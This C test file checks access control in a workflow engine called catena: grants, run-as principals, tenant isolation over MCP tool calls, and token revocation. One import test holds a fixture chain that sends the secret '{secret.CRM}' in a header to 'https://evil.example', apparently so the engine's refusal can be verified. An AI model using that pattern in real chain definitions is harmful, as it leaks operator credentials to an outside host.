/*
 * On whose behalf a chain runs, and what it may use then: by the API, with keys that were made while it serves.
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "e2e/web_kit.h"

#define SERVED                                                                                                         \
    "store: sqlite:catena.db\ninclude: [book.yaml, pay.yaml, slow.yaml]\n"                                             \
    "http:\n  tokens:\n    root: {env: ROOT_TOKEN, roles: [admin]}\n"

typedef struct rights {
    world *w;
    web web;
    ctn_arena *arena;
    char who[200]; /* Authorization header */
} rights;

static void rights_open(rights *r, void **state)
{
    *r = (rights){.w = *state, .arena = ctn_arena_new(65536)};
    cli_world_env(r->w, "ROOT_TOKEN=root-secret");
    cli_world_write(r->w, "catena.yaml", SERVED);
    cli_world_write(r->w, "book.yaml",
                    "id: book\nsteps:\n  - {stepName: enter, instructionSet: ledger, outputVariables: [out]}\n"
                    "instructionSets:\n  ledger: {transform: '{out: 1}', restricted: true}\n");
    cli_world_write(r->w, "pay.yaml",
                    "id: pay\nrunAs: payroll\nsteps:\n  - {stepName: enter, instructionSet: ledger}\n");
    cli_world_write(r->w, "slow.yaml",
                    "id: slow\nsteps:\n  - {stepName: ask, instructionSet: ask}\n"
                    "  - {stepName: enter, instructionSet: ledger}\n"
                    "instructionSets:\n  ask: {approval: {message: ok}}\n");
    web_open(&r->web, r->w, "");
}

static void rights_close(rights *r)
{
    web_close(&r->web);
    ctn_arena_free(r->arena);
}

/* By a key that is made now. */
static void become(rights *r, const char *name, const char *more)
{
    char line[300];
    (void) snprintf(line, sizeof line, "catena token create %s %s", name, more);
    assert_exit(r->w, shell(r->w, line), 0);
    (void) snprintf(r->who, sizeof r->who, "Content-Type: application/json\r\nAuthorization: Bearer %.60s\r\n",
                    r->w->said.out);
    usleep(1100 * 1000); /* it is known within a second */
}

static web_answer start(rights *r, const char *chain)
{
    ctn_str body = ctn_arena_printf(r->arena, "{\"chain\":\"%s\"}", chain);
    return web_ask(&r->web, r->arena, "POST", "/v1/executions?wait=10s", r->who, body);
}

static void a_restricted_set_is_used_by_who_was_granted_it(void **state)
{
    rights r;
    rights_open(&r, state);
    become(&r, "ada", "--role operator");
    web_answer a = start(&r, "book");
    assert_int_equal(a.status, 403);
    assert_contains(a.body.ptr, "ada lacks the grant \\\"sets.use:ledger\\\"");
    assert_exit(r.w, catena(r.w, "principal", "grant", "ada", "--grant", "sets.use:ledger", NULL), 0);
    usleep(1100 * 1000);
    a = start(&r, "book");
    assert_int_equal(a.status, 200);
    assert_string_equal(ctn_json_str_or(a.json, "status", CTN_STR("?")).ptr, "completed");

    /* It waits, and meanwhile the grant is taken away. */
    a = web_ask(&r.web, r.arena, "POST", "/v1/executions", r.who, CTN_STR("{\"chain\":\"slow\"}"));
    assert_int_equal(a.status, 202);
    ctn_str id = ctn_json_str_or(a.json, "id", ctn_json_str_or(a.json, "executionId", CTN_STR("?")));
    assert_exit(r.w, catena(r.w, "principal", "ungrant", "ada", "--grant", "sets.use:ledger", NULL), 0);
    usleep(1100 * 1000);
    assert_exit(r.w, catena(r.w, "answer", id.ptr, "ask", "{\"approved\":true}", NULL), 1);
    assert_err(r.w, "denied");
    assert_exit(r.w, catena(r.w, "run", "book", NULL), 0); /* who runs it on the machine itself */
    rights_close(&r);
}

static void a_chain_that_runs_as_somebody_has_his_rights(void **state)
{
    rights r;
    rights_open(&r, state);
    become(&r, "ada", "--role operator");
    web_answer a = start(&r, "pay");
    assert_int_equal(a.status, 403);
    assert_contains(a.body.ptr, "there is no service principal payroll");
    assert_exit(r.w, catena(r.w, "token", "create", "payroll", "--role", "viewer", NULL), 0);
    usleep(1100 * 1000);
    assert_int_equal(start(&r, "pay").status, 403); /* it is none of service */
    assert_exit(r.w, catena(r.w, "token", "create", "payroll", "--service", NULL), 0);
    usleep(1100 * 1000);
    a = start(&r, "pay");
    assert_int_equal(a.status, 403);
    assert_contains(a.body.ptr, "payroll lacks the grant \\\"sets.use:ledger\\\"");
    assert_exit(r.w, catena(r.w, "principal", "grant", "payroll", "--grant", "sets.use:ledger", NULL), 0);
    usleep(1100 * 1000);
    assert_int_equal(start(&r, "pay").status, 200);
    assert_int_equal(start(&r, "book").status, 403); /* hers are not more for that */
    assert_exit(r.w, catena(r.w, "store", "audit", NULL), 0);
    assert_out(r.w, "ada           executions.start");
    assert_out(r.w, "access.deny");
    rights_close(&r);
}

static web_answer mcp_ask(rights *r, const char *method, const char *params)
{
    ctn_str body =
        ctn_arena_printf(r->arena, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"%s\",\"params\":%s}", method, params);
    char headers[400];
    (void) snprintf(headers, sizeof headers, "%sAccept: application/json\r\nMCP-Protocol-Version: 2025-11-25\r\n",
                    r->who);
    return web_ask(&r->web, r->arena, "POST", "/mcp", headers, body);
}

/* A tool of the engine's, called over MCP. */
static web_answer mcp_call(rights *r, const char *tool, const char *arguments)
{
    return mcp_ask(r, "tools/call",
                   ctn_arena_printf(r->arena, "{\"name\":\"%s\",\"arguments\":%s}", tool, arguments).ptr);
}

static web_answer mcp_read(rights *r, const char *uri)
{
    return mcp_ask(r, "resources/read", ctn_arena_printf(r->arena, "{\"uri\":\"%s\"}", uri).ptr);
}

/* What an id may be, as an assistant's client asks while somebody types. */
static web_answer mcp_complete(rights *r, const char *uri)
{
    return mcp_ask(r, "completion/complete",
                   ctn_arena_printf(r->arena,
                                    "{\"ref\":{\"type\":\"ref/resource\",\"uri\":\"%s\"},\"argument\":{\"name\":"
                                    "\"id\",\"value\":\"\"}}",
                                    uri)
                       .ptr);
}

static void an_assistant_has_the_rights_of_its_key(void **state)
{
    rights r;
    char mine[200];
    rights_open(&r, state);
    become(&r, "tom", "--role operator --tenant acme");
    (void) snprintf(mine, sizeof mine, "%s", r.who);
    web_answer a = mcp_call(&r, "execute_chain", "{\"chain\":\"slow\",\"waitMs\":0}");
    assert_int_equal(a.status, 200);
    assert_contains(a.body.ptr, "sets.use:ledger"); /* his start is refused like one of the API's */
    assert_exit(r.w, catena(r.w, "principal", "grant", "tom", "--grant", "sets.use:ledger", NULL), 0);
    usleep(1100 * 1000);
    a = mcp_call(&r, "execute_chain", "{\"chain\":\"slow\",\"waitMs\":0}");
    char id[64];
    json_text(a.body.ptr, "executionId", id);
    ctn_str about = ctn_arena_printf(r.arena, "{\"executionId\":\"%s\"}", id);
    assert_contains(mcp_call(&r, "list_executions", "{}").body.ptr, id);

    become(&r, "eve", "--role operator --tenant evil");
    assert_lacks(mcp_call(&r, "list_executions", "{}").body.ptr, id);
    assert_contains(mcp_call(&r, "get_execution", about.ptr).body.ptr, "There is no execution");
    assert_contains(mcp_call(&r, "cancel_execution", about.ptr).body.ptr, "There is no execution");
    assert_lacks(mcp_complete(&r, "catena://executions/{id}").body.ptr, id);
    become(&r, "vera", "--role viewer --tenant acme");
    assert_contains(mcp_call(&r, "get_execution", about.ptr).body.ptr, id);
    assert_contains(mcp_call(&r, "cancel_execution", about.ptr).body.ptr, "executions.cancel");
    assert_contains(mcp_call(&r, "execute_chain", "{\"chain\":\"slow\"}").body.ptr, "executions.start");
    (void) snprintf(r.who, sizeof r.who, "%s", mine);
    assert_contains(mcp_call(&r, "cancel_execution", about.ptr).body.ptr, "cancelled");
    assert_exit(r.w, catena(r.w, "store", "audit", NULL), 0);
    assert_out(r.w, "tom           executions.cancel");
    assert_out(r.w, "\"from\":\"127.0.0.1\"");
    rights_close(&r);
}

static void who_sees_some_chains_is_shown_no_others_by_an_assistant(void **state)
{
    rights r;
    rights_open(&r, state);
    become(&r, "nina", "--role viewer --chain book");
    assert_contains(mcp_call(&r, "get_chain", "{\"chain\":\"book\"}").body.ptr, "enter");
    assert_contains(mcp_call(&r, "get_chain", "{\"chain\":\"pay\"}").body.ptr, "There is no chain");
    assert_contains(mcp_read(&r, "catena://chains/book").body.ptr, "enter");
    assert_contains(mcp_read(&r, "catena://chains/pay").body.ptr, "there is no such chain");
    ctn_str ids = mcp_complete(&r, "catena://chains/{id}").body;
    assert_contains(ids.ptr, "book");
    assert_lacks(ids.ptr, "pay");
    become(&r, "rita", "--grant tools.read");
    assert_contains(mcp_read(&r, "catena://chains/book").body.ptr, "there is no such chain");
    rights_close(&r);
}

static web_answer import(rights *r, const char *text)
{
    return web_ask(&r->web, r->arena, "POST", "/v1/chains", r->who, ctn_str_from(text));
}

static void who_imports_chains_sends_no_secret_that_no_set_of_the_operator_sends(void **state)
{
    static const char SENDS[] = "{\"id\":\"leak\",\"steps\":[{\"stepName\":\"a\",\"instructionSet\":\"tell\","
                                "\"inputTemplate\":\"{secret.CRM}\",\"release\":[\"secret.CRM\"]}]}",
                      HAS[] = "{\"id\":\"has\",\"steps\":[{\"stepName\":\"a\",\"instructionSet\":\"mine\"}],"
                              "\"instructionSets\":{\"mine\":{\"http\":{\"url\":\"https://evil.example\","
                              "\"headers\":{\"X\":\"{secret.CRM}\"}}}}}",
                      USES[] = "{\"id\":\"uses\",\"steps\":[{\"stepName\":\"a\",\"instructionSet\":\"fetch\"}]}";
    rights r = {.w = *state, .arena = ctn_arena_new(65536)};
    cli_world_env(r.w, "CRM=crm-secret");
    cli_world_write(r.w, "catena.yaml", "store: sqlite:catena.db\ninclude: [sets.yaml]\nsecrets: {CRM: {env: CRM}}\n");
    cli_world_write(r.w, "sets.yaml",
                    "instructionSets:\n"
                    "  tell: {http: {url: 'https://chat.example', method: POST, body: {text: '{input}'}}}\n"
                    "  fetch: {http: {url: 'https://crm.example', headers: {Authorization: 'Bearer {secret.CRM}'}}}\n");
    web_open(&r.web, r.w, "");
    become(&r, "ada", "--role author");
    web_answer a = import(&r, SENDS);
    assert_int_equal(a.status, 403);
    assert_contains(a.body.ptr, "ada lacks the grant \\\"secrets.name\\\"");
    assert_int_equal(import(&r, HAS).status, 422);
    assert_int_equal(import(&r, USES).status, 201);
    become(&r, "root", "--role admin");
    assert_int_equal(import(&r, SENDS).status, 201);
    rights_close(&r);
}

static void a_stream_tells_nothing_more_when_its_key_was_revoked(void **state)
{
    rights r;
    ctn_buf text;
    char hers[200], id[13] = "";
    rights_open(&r, state);
    become(&r, "ada", "--role operator");
    (void) snprintf(hers, sizeof hers, "%s", r.who);
    become(&r, "eve", "--role viewer");
    memcpy(id, strstr(r.who, "ctn_") + 4, sizeof id - 1);
    ctn_buf_init(&text, 1 << 20);
    int fd = web_stream(&r.web, "/v1/events", r.who);
    assert_true(web_stream_await(fd, &text, "retry: "));
    assert_exit(r.w, catena(r.w, "token", "revoke", id, NULL), 0);
    usleep(1100 * 1000);
    (void) snprintf(r.who, sizeof r.who, "%s", hers);
    assert_exit(r.w, catena(r.w, "principal", "grant", "ada", "--grant", "sets.use:ledger", NULL), 0);
    usleep(1100 * 1000);
    assert_int_equal(start(&r, "book").status, 200);
    assert_false(web_stream_await(fd, &text, "event: "));
    close(fd);
    ctn_buf_done(&text);
    rights_close(&r);
}

static void who_may_change_an_execution_and_not_read_it_learns_only_how_it_stands(void **state)
{
    rights r;
    char id[64], target[100];
    rights_open(&r, state);
    become(&r, "ada", "--role operator --grant sets.use:ledger");
    json_text(web_ask(&r.web, r.arena, "POST", "/v1/executions", r.who, CTN_STR("{\"chain\":\"slow\"}")).body.ptr,
              "executionId", id);
    become(&r, "eve", "--grant executions.cancel");
    (void) snprintf(target, sizeof target, "/v1/executions/%s/cancel?wait=10s", id);
    web_answer a = web_ask(&r.web, r.arena, "POST", target, r.who, CTN_STR("{}"));
    assert_true(a.status == 200 || a.status == 202);
    assert_contains(a.body.ptr, "\"status\"");
    assert_lacks(a.body.ptr, "\"steps\"");
    assert_lacks(a.body.ptr, "\"input\"");
    rights_close(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        CLI_TEST(a_restricted_set_is_used_by_who_was_granted_it),
        CLI_TEST(a_chain_that_runs_as_somebody_has_his_rights),
        CLI_TEST(an_assistant_has_the_rights_of_its_key),
        CLI_TEST(who_sees_some_chains_is_shown_no_others_by_an_assistant),
        CLI_TEST(who_imports_chains_sends_no_secret_that_no_set_of_the_operator_sends),
        CLI_TEST(a_stream_tells_nothing_more_when_its_key_was_revoked),
        CLI_TEST(who_may_change_an_execution_and_not_read_it_learns_only_how_it_stands),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
